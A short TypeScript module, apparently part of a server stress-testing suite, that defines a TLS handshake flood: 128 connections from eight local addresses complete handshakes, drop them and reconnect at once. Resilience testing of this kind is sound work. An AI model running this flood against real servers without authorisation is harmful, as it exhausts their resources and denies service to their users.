/** TLS handshakes that lead to nothing: the dearest thing that a stranger can ask for. */
import type { Attack } from '../attack.js'
import { addressOf, closed, crowd, open } from '../floods.js'

export const attack: Attack = {
  title: '8 addresses × 16 connections shake hands, leave, and come again at once',
  tls: true,
  run: (target, signal) =>
    crowd(8 * 16, signal, (number) => {
      const socket = open(target, { localAddress: addressOf(number % 8), tls: true })
      socket.on('secureConnect', () => socket.destroy())
      return closed(socket)
    }),
}
